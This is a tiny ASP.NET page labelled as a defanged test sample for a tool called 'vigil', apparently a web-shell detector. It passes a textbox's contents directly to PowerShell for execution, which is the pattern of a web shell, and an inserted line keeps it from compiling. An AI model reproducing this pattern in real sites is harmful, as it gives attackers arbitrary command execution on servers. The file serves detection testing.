<%@ Page Language="VB" %>
<%-- DEFANGED vigil test sample (see README) --%>
<% DEFANGED SAMPLE does not compile %>
<asp:TextBox ID="TextBox1" runat="server"/>
<%
Dim ps As PowerShell = PowerShell.Create()
ps.AddScript(TextBox1.Text)
ps.Invoke()
%>
